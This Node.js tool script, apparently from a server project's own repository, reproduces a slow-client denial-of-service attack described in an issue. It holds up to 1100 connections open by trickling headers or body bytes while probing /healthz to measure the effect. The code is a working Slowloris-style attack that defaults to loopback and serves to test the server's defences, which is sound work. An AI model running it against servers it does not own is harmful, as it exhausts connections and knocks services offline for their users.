#!/usr/bin/env node
// slow-clients.mjs - the slow-client attack of issue 13, by hand: opens N
// connections to a unionbase server that each send a request line and then
// one header line every INTERVAL seconds (or, with --body, full headers and
// then one body byte every INTERVAL seconds), and asks /healthz once a
// second from another source address, printing what it sees.
//
//   node tools/slow-clients.mjs --port 8080 [--host 127.0.0.1] [--conns 1100]
//        [--interval 8] [--body [--length 1000]] [--from 127.0.0.1,127.0.0.3,...]
//        [--probe-from 127.0.0.2] [--seconds 60]
//
// --from spreads the slow connections over several source addresses (on
// loopback every 127.x.y.z is local). Each line of output: seconds since the
// start, slow connections the server still holds open, connections it has
// closed, and the /healthz probe's result and time. Needs a file descriptor
// limit above --conns (ulimit -n).
import net from 'node:net';
import http from 'node:http';

const args = process.argv.slice(2);
const opt = (name, def) => {
  const i = args.indexOf(`--${name}`);
  return i >= 0 ? args[i + 1] : def;
};
const flag = (name) => args.includes(`--${name}`);
const host = opt('host', '127.0.0.1');
const port = Number(opt('port', '8080'));
const conns = Number(opt('conns', '1100'));
const interval = Number(opt('interval', '8')) * 1000;
const body = flag('body');
const length = Number(opt('length', '1000'));
const from = opt('from', '127.0.0.1').split(',');
const probeFrom = opt('probe-from', '127.0.0.2');
const seconds = Number(opt('seconds', '60'));

let open = 0, closed = 0, failed = 0;
const sockets = [];
const t0 = Date.now();

function slow(i) {
  const s = net.connect({ host, port, localAddress: from[i % from.length] });
  let alive = false;
  s.on('connect', () => {
    alive = true;
    open++;
    if (body) s.write(`POST /api/v1/session HTTP/1.1\r\nHost: ${host}\r\nContent-Type: application/json\r\nContent-Length: ${length}\r\n\r\n`);
    else s.write(`GET /healthz HTTP/1.1\r\nHost: ${host}\r\n`);
  });
  s.on('data', () => {});
  s.on('error', () => {});
  s.on('close', () => {
    if (alive) { open--; closed++; } else failed++;
    alive = false;
  });
  sockets.push(s);
}

function probe() {
  const start = Date.now();
  return new Promise((resolve) => {
    const req = http.get({ host, port, path: '/healthz', localAddress: probeFrom, agent: false, timeout: 5000 }, (res) => {
      res.resume();
      res.on('end', () => resolve(`${res.statusCode} in ${Date.now() - start} ms`));
    });
    req.on('timeout', () => { req.destroy(); resolve('no answer within 5 s'); });
    req.on('error', (e) => resolve(`error ${e.code || e.message} after ${Date.now() - start} ms`));
  });
}

for (let i = 0; i < conns; i++) {
  slow(i);
  if (i % 100 === 99) await new Promise((r) => setTimeout(r, 20));
}
const trickle = setInterval(() => {
  for (const s of sockets) if (!s.destroyed && s.writable) s.write(body ? '{' : `X-Slow-${Math.floor(Math.random() * 1e6)}: 1\r\n`);
}, interval);

while (Date.now() - t0 < seconds * 1000) {
  const tick = Date.now();
  const p = await probe();
  console.log(`${((Date.now() - t0) / 1000).toFixed(1)}s  held open ${open}  closed by the server ${closed}  not connected ${failed}  /healthz: ${p}`);
  await new Promise((r) => setTimeout(r, Math.max(0, 1000 - (Date.now() - tick))));
}
clearInterval(trickle);
for (const s of sockets) s.destroy();
